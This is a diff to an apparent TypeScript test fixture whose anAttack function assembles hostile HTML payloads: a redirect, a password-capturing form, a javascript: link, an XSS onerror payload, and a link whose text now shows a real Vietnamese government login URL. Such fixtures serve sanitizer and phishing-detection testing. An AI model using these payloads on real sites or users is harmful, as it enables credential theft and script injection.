@@ -41,7 +41,7 @@ export function anAttack(url: string) {
       `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
       `<form action="${url}/form"><input name="password"><button>Xác nhận</button></form>`,
       `<a href="javascript:${act}">Bấm vào đây</a>`,
-      `<a href="${url}/lure">https://so.example/dang-nhap</a>`,
+      `<a href="${url}/lure">https://dichvucong.gov.vn/dang-nhap</a>`,
       `<math><mtext><style><img src=x onerror="${act}"></style></mtext></math>`,
     ].join('\n'),
   };
